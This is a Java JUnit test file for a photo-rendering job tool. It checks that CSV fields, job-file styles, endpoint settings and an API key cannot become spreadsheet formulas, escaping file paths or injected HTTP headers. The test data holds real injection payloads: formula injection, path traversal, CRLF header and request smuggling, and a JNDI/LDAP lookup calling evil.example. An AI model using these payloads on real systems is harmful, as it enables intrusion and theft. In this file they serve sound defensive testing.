package dev.roomline.job.run;

import static org.assertj.core.api.Assertions.assertThat;

import dev.roomline.domain.Photo;
import dev.roomline.domain.RenderRequest;
import dev.roomline.endpoint.ApiKey;
import dev.roomline.endpoint.EndpointClient;
import dev.roomline.endpoint.EndpointSettings;
import dev.roomline.job.JobFolder;
import dev.roomline.rooms.ResultColumns;
import java.io.IOException;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Formulas, paths and headers in every field of room list, job file and answers, in one run. */
class InjectionTest {
  /** What stands in every field, one after the other. */
  private static final List<String> TRICKS =
      List.of(("=HYPERLINK(\"http://evil.example\")§+1+1§-2+3§@SUM(A1)§\t=1§\r=1§../../../escaped§"
              + "..\\..\\escaped§/tmp/escaped§C:\\escaped§file:///etc/passwd§a/../../escaped§NUL§"
              + "COM1.png§aux§.§..§~§a\u202Egnp.exe§x\r\nX-Injected: yes\r\n\r\n§"
              + "x HTTP/1.1\r\nHost: evil.example\r\n\r\nGET /§%0d%0aX-Injected:%20yes§"
              + "\u010D\u010AX-Injected: yes§${jndi:ldap://evil.example/a}"
              + "§"
              + "x".repeat(5_000))
          .split("§", -1));

  private static final List<String> OF_A_POST =
      List.of("accept", "connection", "content-length", "content-type", "host", "user-agent");
  private static final List<String> OF_A_GET =
      List.of("accept", "accept-encoding", "connection", "host", "user-agent");
  private static final String STYLES =
      "styles: { \"/tmp/escaped\": {}, \"=1+1\": { prompt: \"{room}\\r\\nX-Injected: yes\" } }\n";

  @TempDir
  Path folder;

  @Test
  void noFieldBecomesAFormulaAPathOrAHeader() throws Exception {
    try (var provider = new HostileProvider(TRICKS)) {
      var inner = Files.createDirectory(folder.resolve("inner"));
      var job = JobFolder.in(inner, provider.url()).appendToJobFile(STYLES).csv(rooms(provider));
      var before = files();

      job.run("retries=0", "keep-originals=true", "endpoint.extra.note=\"x\\r\\nX-Injected: yes\"");

      var written = files();
      written.removeAll(before);
      assertThat(written).allMatch(it -> it.matches("inner/(out|state)(/[\\w.-]{1,100})*"));
      assertThat(Path.of("/tmp/escaped")).doesNotExist();
      assertThat(job.column("status")).contains("rendered", "refused", "invalid");
      assertThat(ours(job)).noneMatch(it -> it.matches("(?s)[=+@\t\r-].*"));
      assertThat(provider.heads).allSatisfy(InjectionTest::isOneRequest);
    }
  }

  @Test
  void aKeyOfTwoLinesIsNoHeader() throws Exception {
    try (var provider = new HostileProvider(TRICKS)) {
      var settings = EndpointSettings.of(provider.url().toString(), null, Duration.ofSeconds(10));
      var photo = new Photo("https://h/a.jpg", "https://h/a.jpg", null);
      try (var client = new EndpointClient(settings, ApiKey.from("k\r\nX-Injected: yes"))) {
        client.create(new RenderRequest(photo, "sofa", Map.of(), Map.of()));
      }

      assertThat(provider.heads).hasSize(1).allSatisfy(InjectionTest::isOneRequest);
    }
  }

  private static void isOneRequest(String head) {
    var lines = head.split("\r\n");
    assertThat(lines[0]).matches("(POST|GET) /[!-~]* HTTP/1\\.1");
    assertThat(Stream.of(lines).skip(1).map(it -> it.split(":")[0].toLowerCase(Locale.ROOT)))
        .containsExactlyInAnyOrderElementsOf(head.startsWith("POST") ? OF_A_POST : OF_A_GET);
  }

  /** Each trick in every free column, as a photo's name, and in a photo's address. */
  private static String rooms(HostileProvider provider) throws IOException {
    var csv = new StringWriter();
    try (var printer = new CSVPrinter(csv, CSVFormat.RFC4180)) {
      printer.printRecord("listing_key", "init_image", "prompt", "room", "style", "=note", "-note");
      for (var trick : TRICKS) {
        for (var photo : List.of("https://h/a.jpg", trick, provider.url() + "/photos/" + trick)) {
          printer.printRecord(trick, photo, trick, trick, trick, trick, trick);
        }
      }
    }
    return csv.toString();
  }

  /** What stands in our own columns and is no number. */
  private static List<String> ours(JobFolder job) throws IOException {
    return job.lines().stream()
        .flatMap(line -> ResultColumns.WRITTEN.stream().map(line::get))
        .filter(cell -> !cell.matches("-?\\d+(\\.\\d+)?"))
        .toList();
  }

  private List<String> files() throws IOException {
    try (Stream<Path> files = Files.walk(folder)) {
      return files
          .map(it -> folder.relativize(it).toString())
          .collect(Collectors.toCollection(ArrayList::new));
    }
  }
}
